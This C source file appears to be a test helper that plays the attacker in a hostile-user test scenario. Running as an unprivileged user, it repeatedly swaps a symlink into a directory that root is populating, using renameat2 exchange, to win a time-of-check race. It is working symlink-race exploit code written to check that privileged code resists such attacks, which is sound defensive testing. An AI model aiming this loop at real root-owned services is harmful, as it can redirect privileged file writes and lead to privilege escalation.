/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* race-swap: the attacker of the stage-hostile-user scenario, run as the server's user. Whenever DIR
 * is this user's (root made it and handed it over), it keeps a symbolic link to TARGET in it and
 * exchanges that link with DIR/NAME, over and over (renameat2(RENAME_EXCHANGE), one step each), so
 * that root, making NAME and then writing a file into it, may find the directory the first time and
 * the link the second. Each new DIR gets the other of two timings: from the moment NAME exists, or
 * only once root has handed NAME over too (its owner is this user), so that root also gets past
 * making NAME. It spins until OUT.stop exists or 15 minutes pass, then writes "<swaps> <polls>" to
 * OUT. A compiled loop, to win a window of microseconds. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

int main(int argc, char *argv[]) {
        char *path, *link, *stop;
        unsigned long swaps = 0, polls = 0, dirs = 0;
        time_t end = time(NULL) + 15 * 60;
        uid_t uid = getuid();
        ino_t dir_ino = 0;
        bool wait_handover = false;
        FILE *f;

        if (argc != 5) {
                fprintf(stderr, "usage: race-swap DIR NAME TARGET OUT\n");
                return 2;
        }
        if (asprintf(&path, "%s/%s", argv[1], argv[2]) < 0 ||
            asprintf(&link, "%s/.race-link", argv[1]) < 0 || asprintf(&stop, "%s.stop", argv[4]) < 0)
                return 1;
        for (;;) {
                struct stat st;

                if ((++polls & 0xffff) == 0 && (access(stop, F_OK) == 0 || time(NULL) > end))
                        break;
                if (lstat(path, &st) < 0) {
                        /* before NAME: a new DIR gets the link, and the other timing */
                        if (stat(argv[1], &st) == 0 && st.st_ino != dir_ino) {
                                dir_ino = st.st_ino;
                                wait_handover = ++dirs % 2 == 0;
                        }
                        (void)symlink(argv[3], link);
                        continue;
                }
                if (wait_handover && S_ISDIR(st.st_mode) && st.st_uid != uid)
                        continue;
                if (renameat2(AT_FDCWD, link, AT_FDCWD, path, RENAME_EXCHANGE) == 0)
                        swaps++;
                else if (errno == ENOENT)
                        (void)symlink(argv[3], link);
        }
        free(path);
        free(link);
        free(stop);
        f = fopen(argv[4], "we");
        if (!f)
                return 1;
        fprintf(f, "%lu %lu\n", swaps, polls);
        return fclose(f) == 0 ? 0 : 1;
}
